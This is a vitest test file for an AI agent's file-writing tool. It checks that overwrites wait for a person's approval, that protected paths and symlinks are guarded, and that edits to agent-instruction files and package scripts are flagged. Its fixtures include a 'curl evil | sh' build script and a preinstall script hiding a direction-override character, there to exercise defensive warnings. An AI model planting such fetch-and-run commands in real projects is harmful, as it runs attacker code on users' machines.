import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ApprovalQuestion, CallOptions, ToolResult, ToolServiceOptions } from '@toolcrib/core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createFileBench, type FileBench } from '../file-bench.test-support.ts';

let desk: FileBench;
let questions: ApprovalQuestion[];
/** What happens while the person thinks. */
let meanwhile: () => void;

const agents = {
  ada: { permission: 'read_write' },
  bob: { permission: 'read_write' },
  reader: { permission: 'read_only' },
} as const;

function open(options: ToolServiceOptions = {}): void {
  desk = createFileBench({
    agents,
    approver: (question) => {
      questions.push(question);
      meanwhile();
      return { decision: 'allow_once' };
    },
    ...options,
  });
}

beforeEach(() => {
  questions = [];
  meanwhile = () => undefined;
  open();
});
afterEach(() => desk.project.remove());

const inProject = (path: string): string => join(desk.project.root, path);
const content = (path: string): string => readFileSync(inProject(path), 'utf8');
const put = (path: string, text: string | Buffer): void => writeFileSync(inProject(path), text);
const read = (file_path: string, agent = 'ada'): Promise<ToolResult> =>
  desk.service.execute('Read', { file_path }, { agent });
const write = (file_path: string, text: string, options: CallOptions = {}): Promise<ToolResult> =>
  desk.service.execute('Write', { file_path, content: text }, { agent: 'ada', ...options });

const changedMeanwhile = { status: 'error', data: { reason: 'changed_meanwhile' } };

describe('a new file', () => {
  test('is made without a question, with the folders that it needs', async () => {
    expect(await write('a/b/new.txt', 'ü\n')).toMatchObject({
      status: 'success',
      output: { path: 'a/b/new.txt', created: true, changed: true, bytes: 3, diff: '' },
      metadata: { approval: { kind: 'not_needed' }, notes: { file_size_bytes: 3 } },
    });
    expect(content('a/b/new.txt')).toBe('ü\n');
    expect(questions).toEqual([]);
  });

  test('is not made over one that has come meanwhile, which nobody was asked about', async () => {
    desk.project.remove();
    open({
      fence: {
        enclose: () => {
          put('new.txt', 'somebody else’s');
          return { layer: 'test' };
        },
      },
    });
    expect(await write('new.txt', 'mine')).toMatchObject(changedMeanwhile);
    expect(content('new.txt')).toBe('somebody else’s');
  });

  test('may take the name of one that was read and is gone', async () => {
    await read('notes.txt');
    rmSync(inProject('notes.txt'));
    expect(await write('notes.txt', 'again')).toMatchObject({ output: { created: true } });
  });
});

describe('an existing file', () => {
  test('is overwritten after a person has seen what changes', async () => {
    const diff = [
      '--- a/notes.txt',
      '+++ b/notes.txt',
      '@@ -1,4 +1,4 @@',
      ' first',
      '-second',
      '+2nd',
      ' third',
      ' fourth',
      '',
    ];
    expect(await write('notes.txt', 'first\n2nd\nthird\nfourth\n')).toMatchObject({
      output: { path: 'notes.txt', created: false, changed: true, bytes: 23, diff: diff.join('\n') },
      metadata: { risk: 'high', approval: { kind: 'answered' } },
    });
    expect(questions).toMatchObject([
      {
        tool: 'Write',
        risk: 'high',
        warning: expect.stringMatching(/^Overwrites notes\.txt\. Git does not have what is there now/u),
        effects: [{ kind: 'write', path: 'notes.txt', risk: 'high', preview: diff.join('\n') }],
      },
    ]);
    expect(content('notes.txt')).toBe('first\n2nd\nthird\nfourth\n');
  });

  test('stays as it is when nobody can be asked, or when the answer is no', async () => {
    const no: ToolServiceOptions = { agents, approver: () => ({ decision: 'reject_once' }) };
    for (const options of [{ agents }, no]) {
      desk.project.remove();
      desk = createFileBench(options);
      expect(await write('notes.txt', 'gone')).toMatchObject({ status: 'blocked', station: 'approve' });
      expect(content('notes.txt')).toBe('first\nsecond\nthird\nfourth\n');
    }
  });

  test('that holds exactly this already is left alone, without a question', async () => {
    const before = lstatSync(inProject('notes.txt'));
    expect(await write('notes.txt', 'first\nsecond\nthird\nfourth\n')).toMatchObject({
      output: { created: false, changed: false, diff: '' },
    });
    expect(questions).toEqual([]);
    expect(lstatSync(inProject('notes.txt')).ino).toBe(before.ino);
  });

  test('that has changed since this agent read it is not overwritten', async () => {
    await read('notes.txt');
    put('notes.txt', 'changed by somebody\n');
    expect(await write('notes.txt', 'mine\n')).toMatchObject(changedMeanwhile);
    expect(content('notes.txt')).toBe('changed by somebody\n');
    await read('notes.txt');
    expect(await write('notes.txt', 'mine\n')).toMatchObject({ status: 'success' });
    // What it has written itself, it knows.
    expect(await write('notes.txt', 'mine again\n')).toMatchObject({ status: 'success' });
    // Another agent has read nothing, or something older.
    expect(await write('notes.txt', 'from bob\n', { agent: 'bob' })).toMatchObject({ status: 'success' });
    expect(await write('notes.txt', 'from ada\n')).toMatchObject(changedMeanwhile);
  });

  test('that changes while the person thinks is not overwritten', async () => {
    meanwhile = () => put('notes.txt', 'changed while thinking\n');
    expect(await write('notes.txt', 'mine\n')).toMatchObject(changedMeanwhile);
    expect(content('notes.txt')).toBe('changed while thinking\n');
    meanwhile = () => rmSync(inProject('notes.txt'));
    // Whoever was asked about once is not asked about again.
    expect(await write('notes.txt', 'mine\n', { agent: 'bob' })).toMatchObject(changedMeanwhile);
    expect(existsSync(inProject('notes.txt'))).toBe(false);
  });

  test('behind a link is what is written: the link stays', async () => {
    symlinkSync('notes.txt', inProject('link'));
    expect(await write('link', 'through the link')).toMatchObject({ output: { path: 'notes.txt' } });
    expect(questions[0]?.effects).toMatchObject([{ path: 'notes.txt' }]);
    expect(lstatSync(inProject('link')).isSymbolicLink()).toBe(true);
    expect(content('notes.txt')).toBe('through the link');
  });

  test('that is large or no text is told by size', async () => {
    put('large.txt', 'x\n'.repeat(1_000_000));
    put('image.png', Buffer.of(137, 0, 1, 2));
    await write('large.txt', 'small');
    await write('image.png', 'text', { agent: 'bob' });
    expect(questions.map(({ effects }) => effects[0]?.preview)).toEqual([
      'What changes cannot be shown: 2000000 bytes before, 5 bytes after.',
      'What changes cannot be shown: 4 bytes before, 4 bytes after.',
    ]);
  });

  test('whose change is long is shown in part, and the whole of the diff is kept', async () => {
    const lines = (word: string): string =>
      Array.from({ length: 3000 }, (_, line) => `${word} ${line}\n`).join('');
    put('long.txt', lines('old'));
    const result = await write('long.txt', lines('new'));
    expect(questions[0]?.effects[0]?.preview).toMatch(/^-old 1996\n\[The rest is not shown\.\]$/mu);
    const { diff } = (result as { output: { diff: string } }).output;
    const [, handle = ''] = /Read (output:\w+) with/u.exec(diff) ?? [];
    const kept = readFileSync((await desk.bench.outputs.find(handle)) ?? '', 'utf8');
    expect(kept).toMatch(/\+new 2999\n$/u);
  });
});

describe('nothing is written', () => {
  test('outside the project or where it is protected, and nobody is asked about it', async () => {
    mkdirSync(inProject('.git'));
    put('.git/config', 'as it was');
    expect(await write('/etc/toolcrib', 'x')).toMatchObject({
      status: 'blocked',
      errorCode: 'outside_project',
    });
    expect(await write('.git/config', 'x')).toMatchObject({ status: 'blocked', errorCode: 'protected_path' });
    expect(await write('.bashrc', 'x')).toMatchObject({ status: 'blocked', errorCode: 'protected_path' });
    expect(questions).toEqual([]);
    expect(content('.git/config')).toBe('as it was');
  });

  test('by an agent that may only read', async () => {
    expect(await write('new.txt', 'x', { agent: 'reader' })).toMatchObject({
      status: 'blocked',
      errorCode: 'permission_denied',
    });
    expect(existsSync(inProject('new.txt'))).toBe(false);
  });

  test.each([
    ['src', 'not_a_file'],
    ['src/new/', 'not_a_file'],
    ['notes.txt/new', 'not_a_folder'],
  ])('to %s', async (path, reason) => {
    expect(await write(path, 'x')).toMatchObject({ status: 'error', data: { reason } });
  });

  test('that cannot be written in UTF-8', async () => {
    expect(await write('new.txt', 'half \uD83D')).toMatchObject({
      status: 'error',
      data: { reason: 'broken_characters' },
    });
  });

  test('when the caller cancels', async () => {
    const cancel = new AbortController();
    meanwhile = () => cancel.abort();
    expect(await write('notes.txt', 'x', { signal: cancel.signal })).toMatchObject({
      errorCode: 'cancelled',
    });
    expect(content('notes.txt')).toBe('first\nsecond\nthird\nfourth\n');
  });
});

test('a rule speaks of where a path leads', async () => {
  desk.project.remove();
  open({ rules: [{ decision: 'deny', effects: [{ kind: 'write', target: 'src/*' }] }] });
  symlinkSync('src', inProject('elsewhere'));
  expect(await write('elsewhere/new.ts', 'x')).toMatchObject({
    status: 'blocked',
    errorCode: 'denied_by_rule',
  });
  expect(await write('./src/../src/new.ts', 'x')).toMatchObject({ errorCode: 'denied_by_rule' });
  expect(await write('other.ts', 'x')).toMatchObject({ status: 'success' });
});

test('a link that leads elsewhere after the call was judged is not followed there', async () => {
  desk.project.remove();
  open({
    rules: [{ decision: 'deny', effects: [{ target: 'src/*' }] }],
    fence: {
      enclose: () => {
        rmSync(inProject('link'));
        symlinkSync('src', inProject('link'));
        return { layer: 'test' };
      },
    },
  });
  for (const call of [() => write('link/new.ts', 'x'), () => read('link/greet.ts')]) {
    rmSync(inProject('link'), { force: true });
    symlinkSync('.', inProject('link'));
    put('greet.ts', 'harmless');
    expect(await call()).toMatchObject(changedMeanwhile);
  }
  expect(existsSync(inProject('src/new.ts'))).toBe(false);
});

test('a second attempt of the same call finds its work done', async () => {
  const given = { file_path: 'notes.txt', content: 'once\n' };
  expect(await desk.service.execute('Write', given, { agent: 'ada', retries: 2 })).toMatchObject({
    status: 'success',
    metadata: { attempts: 1 },
  });
  expect(content('notes.txt')).toBe('once\n');
});

test('the warning is in the language of the bench', async () => {
  desk.project.remove();
  open({ locale: 'zh-CN' });
  await write('notes.txt', 'x');
  expect(questions[0]?.warning).toContain('将覆盖 notes.txt。当前内容不在 git 中，无法恢复。');
});

describe('a file that other programs execute or obey', () => {
  test.each([
    'AGENTS.md',
    'packages/a/CLAUDE.md',
    '.github/workflows/test.yml',
    '.tool-versions',
    'flake.nix',
  ])('%s asks also when it is new, and says who obeys it', async (path) => {
    expect(await write(path, 'all: evil\n')).toMatchObject({ output: { created: true } });
    expect(questions).toMatchObject([
      {
        risk: 'high',
        warning: expect.stringContaining(`${path} takes effect outside the sandbox.`),
        effects: [{ preview: expect.stringContaining('+all: evil') }],
      },
    ]);
  });

  test('of a package, what it runs is shown before and after', async () => {
    const described = (scripts: object, version: string): string => JSON.stringify({ version, scripts });
    put('package.json', described({ build: 'tsc', test: 'vitest' }, '1.0.0'));
    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.0'));
    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.1'));
    expect(questions.map(({ warning }) => warning)).toEqual([
      expect.stringContaining('scripts.build: "tsc" → "curl evil | sh"; scripts.post: (none) → "x".'),
      expect.not.stringContaining('outside the sandbox'),
    ]);
  });

  test.each(['Makefile', 'justfile', 'src/agents.ts', '.editorconfig', '.env', 'docs/claude.mdx'])(
    '%s is ordinary, and asks nobody',
    async (path) => {
      expect(await write(path, 'x')).toMatchObject({ output: { created: true } });
      expect(questions).toEqual([]);
    },
  );

  test.each([
    ['{"bin":{"a":"./a.js"}}', 'bin.a: (none) → "./a.js"'],
    ['{"packageManager":"pnpm@9"}', 'packageManager: (none) → "pnpm@9"'],
    ['{"scripts":{"preinstall":"x\u202E"}}', 'scripts.preinstall: (none) → "x\\u{202e}"'],
    ['{"lint-staged":{"*.ts":"evil"}}', 'lint-staged.*.ts: (none) → "evil"'],
    ['{"scripts":', 'package.json: (none) → {"scripts":'],
  ])('of a new package %s is shown', async (described, shown) => {
    await write('packages/a/package.json', described);
    expect(questions.map(({ warning }) => warning)).toEqual([expect.stringContaining(shown)]);
  });

  test('of a new package that runs nothing, nobody is asked', async () => {
    await write('packages/a/package.json', '{"name":"a","dependencies":{"b":"1"}}');
    expect(questions).toEqual([]);
  });

  test('is refused without a person', async () => {
    desk.project.remove();
    desk = createFileBench({ agents });
    expect(await write('AGENTS.md', 'obey')).toMatchObject({ status: 'blocked', station: 'approve' });
    expect(existsSync(inProject('AGENTS.md'))).toBe(false);
  });

  test('that decides without being asked is refused whoever says yes', async () => {
    for (const path of [
      'node_modules/.bin/../../.husky/pre-commit',
      '.HUSKY/pre-commit',
      '.husky/pre-commit',
      'a/lefthook.yml',
      '.devcontainer/devcontainer.json',
      '.zed/tasks.json',
    ])
      expect(await write(path, 'x')).toMatchObject({ status: 'blocked', errorCode: 'protected_path' });
    expect(questions).toEqual([]);
  });
});
